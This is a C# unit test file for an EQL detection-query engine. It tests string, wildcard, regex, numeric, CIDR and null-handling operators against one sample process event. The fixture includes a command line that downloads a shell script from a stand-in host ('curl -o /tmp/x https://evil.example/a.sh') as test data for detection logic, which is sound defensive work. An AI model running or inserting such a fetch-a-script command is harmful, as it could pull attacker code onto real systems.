using Vigil.Contracts.Telemetry;

namespace Vigil.Eql.UnitTests;

/// <summary>Every operator and function on one process event, including multi-valued fields and missing values.</summary>
public sealed class OperatorTests
{
    private static readonly TelemetryEvent Sample = Telemetry.Event("e", 1, "process", e =>
    {
        e.Event.Type.Add(["start", "info"]);
        e.Process = new Process
        {
            Name = "Safari",
            Pid = 42,
            ArgsCount = 3,
            Args = { "curl", "-o", "/tmp/x" },
            CommandLine = "curl -o /tmp/x https://evil.example/a.sh",
            CodeSignature = new CodeSignature { Trusted = true, Exists = true },
        };
        e.Destination = new Endpoint { Ip = "10.1.2.3" };
        e.Source = new Endpoint { Ip = "fd00::1" };
        e.User = new User { Name = "Alice" };
    });

    private static bool Holds(string condition) => Run.Compile($"any where {condition}").Matches(Sample);

    [Theory]
    [InlineData("process.name == \"Safari\"", true)]
    [InlineData("process.name == \"safari\"", false)]
    [InlineData("process.name == \"Saf*\"", false)]
    [InlineData("process.name != \"safari\"", true)]
    [InlineData("process.name != \"Safari\"", false)]
    [InlineData("process.name < \"T\"", true)]
    [InlineData("process.name >= \"a\"", false)]
    public void EqualityAndOrderingOfStringsAreCaseSensitive(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.name : \"safari\"", true)]
    [InlineData("process.name : \"SAF*\"", true)]
    [InlineData("process.name : \"s?fari\"", true)]
    [InlineData("process.name : \"s?f\"", false)]
    [InlineData("process.name : \"*ar*\"", true)]
    [InlineData("process.name : \"*\"", true)]
    [InlineData("process.name : \"s*f*r?\"", true)]
    [InlineData("process.name : (\"chrome\", \"SAF*\")", true)]
    [InlineData("process.name : (\"chrome\", \"firefox\")", false)]
    [InlineData("process.name like \"Saf*\"", true)]
    [InlineData("process.name like \"saf*\"", false)]
    [InlineData("process.name like~ \"saf*\"", true)]
    [InlineData("process.name like (\"x\", \"Saf?ri\")", true)]
    [InlineData("process.name like~ (\"x\", \"SAF?RI\")", true)]
    public void WildcardOperatorsMatchStarAndQuestionMark(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.name regex \"Saf.*\"", true)]
    [InlineData("process.name regex \"saf.*\"", false)]
    [InlineData("process.name regex~ \"saf.*\"", true)]
    [InlineData("process.name regex \"Saf\"", false)]
    [InlineData("process.name regex (\"x.*\", \"[A-Z]afar[a-z]\")", true)]
    public void RegexMustMatchTheWholeValue(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.name in (\"Safari\", \"Chrome\")", true)]
    [InlineData("process.name in (\"safari\")", false)]
    [InlineData("process.name in~ (\"safari\")", true)]
    [InlineData("process.name not in (\"Chrome\")", true)]
    [InlineData("process.name not in~ (\"SAFARI\")", false)]
    [InlineData("process.pid in (1, 42)", true)]
    [InlineData("process.pid not in (1, 2)", true)]
    public void LookupsTestMembership(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.pid == 42", true)]
    [InlineData("process.pid == 42.0", true)]
    [InlineData("process.pid != 42", false)]
    [InlineData("process.pid < 43", true)]
    [InlineData("process.pid <= 42", true)]
    [InlineData("process.pid > 41", true)]
    [InlineData("process.pid >= 43", false)]
    [InlineData("process.pid < 5", false)]
    public void NumbersCompareByValue(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("event.type == \"info\"", true)]
    [InlineData("event.type : \"INF*\"", true)]
    [InlineData("event.type != \"start\"", false)]
    [InlineData("event.type in (\"end\", \"info\")", true)]
    [InlineData("event.type not in (\"end\", \"info\")", false)]
    [InlineData("process.args == \"-o\"", true)]
    [InlineData("process.args : \"/tmp/*\"", true)]
    [InlineData("startsWith(process.args, \"/tmp\")", true)]
    [InlineData("event.category == \"process\"", true)]
    public void AMultiValuedFieldMatchesWhenAnyValueDoes(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("file.path == null", true)]
    [InlineData("file.path != null", false)]
    [InlineData("process.name == null", false)]
    [InlineData("process.name != null", true)]
    [InlineData("file.path != \"x\"", true)]
    [InlineData("file.path == \"x\"", false)]
    [InlineData("not file.path : \"x*\"", true)]
    [InlineData("file.size > 0", false)]
    [InlineData("not startsWith(file.path, \"/tmp\")", true)]
    [InlineData("process.parent.code_signature.trusted == false", false)]
    [InlineData("?process.Ext.no_such_field == null", true)]
    [InlineData("?process.Ext.no_such_field : \"x\"", false)]
    [InlineData("?file.path == null", true)]
    [InlineData("process.name == \"\"", false)]
    [InlineData("file.path == \"\"", true)]
    public void MissingValuesAreNullAndOnlyNullChecksOrNegationsHold(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.code_signature.trusted", true)]
    [InlineData("process.code_signature.trusted == true", true)]
    [InlineData("not process.code_signature.trusted", false)]
    [InlineData("process.code_signature.trusted and process.pid == 42", true)]
    [InlineData("process.pid == 1 or process.name == \"Safari\"", true)]
    [InlineData("not (process.pid == 1 or process.name == \"Safari\")", false)]
    [InlineData("true", true)]
    [InlineData("false", false)]
    public void BooleansAndLogicCombine(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("startsWith(process.name, \"Saf\")", true)]
    [InlineData("startsWith(process.name, \"saf\")", false)]
    [InlineData("startsWith~(process.name, \"saf\")", true)]
    [InlineData("endsWith(process.command_line, \".sh\")", true)]
    [InlineData("endsWith(process.command_line, \".SH\")", false)]
    [InlineData("endsWith~(process.command_line, \"A.SH\")", true)]
    [InlineData("stringContains(process.command_line, \"evil\")", true)]
    [InlineData("stringContains(process.command_line, \"EVIL\")", false)]
    [InlineData("stringContains~(process.command_line, \"EVIL\")", true)]
    [InlineData("stringContains(process.command_line, \"\")", false)]
    [InlineData("length(process.name) == 6", true)]
    [InlineData("length(file.path) == null", true)]
    [InlineData("cidrMatch(destination.ip, \"10.0.0.0/8\")", true)]
    [InlineData("cidrMatch(destination.ip, \"192.168.0.0/16\", \"10.1.0.0/16\")", true)]
    [InlineData("cidrMatch(destination.ip, \"192.168.0.0/16\")", false)]
    [InlineData("cidrMatch(destination.ip, \"10.6.48.157/8\")", true)]
    [InlineData("cidrMatch(source.ip, \"fd00::/8\")", true)]
    [InlineData("cidrMatch(source.ip, \"10.0.0.0/8\")", false)]
    [InlineData("wildcard(process.name, \"S*i\")", true)]
    [InlineData("wildcard(process.name, \"s*i\")", false)]
    [InlineData("wildcard~(process.name, \"x\", \"s*I\")", true)]
    public void StringAndNetworkFunctionsFollowElasticsReference(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process.args_count + 1 == 4", true)]
    [InlineData("process.args_count * 2 > 5", true)]
    [InlineData("process.pid / 5 == 8", true)]
    [InlineData("process.pid / 5.0 == 8.4", true)]
    [InlineData("process.pid % 5 == 2", true)]
    [InlineData("-process.pid < 0", true)]
    [InlineData("add(process.pid, 1) == 43", true)]
    [InlineData("subtract(process.pid, 2) == 40", true)]
    [InlineData("multiply(process.pid, 0.5) == 21", true)]
    [InlineData("divide(process.pid, 4) == 10", true)]
    [InlineData("modulo(process.pid, 10) == 2", true)]
    [InlineData("between(process.command_line, \"curl \", \" \") == \"-o\"", true)]
    [InlineData("between~(process.command_line, \"CURL \", \" \", true) == \"-o /tmp/x\"", true)]
    [InlineData("indexOf(process.command_line, \"-o\") == 5", true)]
    [InlineData("indexOf~(process.command_line, \"EVIL\", 10) == 23", true)]
    [InlineData("substring(process.name, 0, 3) == \"Saf\"", true)]
    [InlineData("substring(process.name, -3) == \"ari\"", true)]
    [InlineData("concat(process.name, \"-\", process.pid) == \"Safari-42\"", true)]
    [InlineData("string(process.pid) == \"42\"", true)]
    [InlineData("number(\"0x10\") == process.args_count + 13", true)]
    [InlineData("number(\"42.5\") > process.pid", true)]
    public void MathAndConversionFunctionsWork(string condition, bool expected) => Assert.Equal(expected, Holds(condition));

    [Theory]
    [InlineData("process where true", true)]
    [InlineData("network where true", false)]
    [InlineData("any where true", true)]
    [InlineData("\"process\" where process.name : \"safari\"", true)]
    public void TheCategoryIsOneOfTheEventCategories(string query, bool expected) => Assert.Equal(expected, Run.Compile(query).Matches(Sample));
}
